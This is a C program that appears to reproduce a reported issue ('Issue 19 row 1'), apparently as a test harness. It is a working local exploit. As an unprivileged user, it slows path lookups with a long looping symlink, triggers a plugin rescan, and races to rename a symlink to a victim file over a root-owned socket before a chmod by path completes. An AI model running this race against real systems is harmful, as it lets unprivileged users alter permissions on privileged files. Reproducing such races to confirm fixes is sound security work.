/* Issue 19 row 1, as an unprivileged user with write access to the socket dir: fake a
 * dead instance dir whose name is a symlink with a long target (so every path lookup
 * through it is slow), put a dead socket in it, ask for a rescan with ".left-", and
 * rename a symlink to the victim over the socket the plugin binds there the moment it
 * appears (before a chmod by path could finish its lookup).
 * Usage: rename_over_socket SOCKET_DIR VICTIM ROUNDS; prints "TRIES n REFUSED m". */
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/un.h>
#include <time.h>
#include <unistd.h>

static double now(void)
{
	struct timespec t;

	clock_gettime(CLOCK_MONOTONIC, &t);
	return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
}

int main(int argc, char **argv)
{
	if (argc != 4)
		return 2;
	const char *dir = argv[1], *victim = argv[2];
	int rounds = atoi(argv[3]), tries = 0, refused = 0;

	for (int r = 0; r < rounds; r++) {
		char real[512], inst[512], path[512], tmp[512], f[512], target[4000];
		snprintf(real, sizeof real, "%s/r%d", dir, r);
		snprintf(inst, sizeof inst, "%s/%012x", dir, 0xa000 + r);
		snprintf(path, sizeof path, "%s/iommufd0-1.sock", real);
		snprintf(tmp, sizeof tmp, "%s/x", real);
		if (mkdir(real, 0755) < 0) {
			refused++;
			continue;
		}
		/* "<real>/../rN/../rN/...": one lookup per component, ~1000 of them. */
		size_t n = (size_t)snprintf(target, sizeof target, "%s", real);
		char step[32];
		int sl = snprintf(step, sizeof step, "/../r%d", r);
		while (n + (size_t)sl + 1 < sizeof target - 64) {
			memcpy(target + n, step, (size_t)sl);
			n += (size_t)sl;
		}
		target[n] = '\0';
		snprintf(f, sizeof f, "%s/.lock", real);
		close(open(f, O_CREAT | O_WRONLY, 0644));
		struct sockaddr_un a = {.sun_family = AF_UNIX};
		snprintf(a.sun_path, sizeof a.sun_path, "%s", path);
		int s = socket(AF_UNIX, SOCK_STREAM, 0);
		if (bind(s, (struct sockaddr *)&a, sizeof a) < 0)
			perror("bind");
		close(s);
		if (symlink(victim, tmp) < 0 || symlink(target, inst) < 0) {
			refused++;
			continue;
		}
		snprintf(f, sizeof f, "%s/.left-%d", dir, r);
		close(open(f, O_CREAT | O_WRONLY, 0644));
		double deadline = now() + 2;
		while (now() < deadline) {
			struct stat st;
			if (lstat(path, &st) == 0 && st.st_uid == 0) {
				if (rename(tmp, path) == 0)
					tries++;
				break;
			}
		}
	}
	printf("TRIES %d REFUSED %d\n", tries, refused);
	return 0;
}
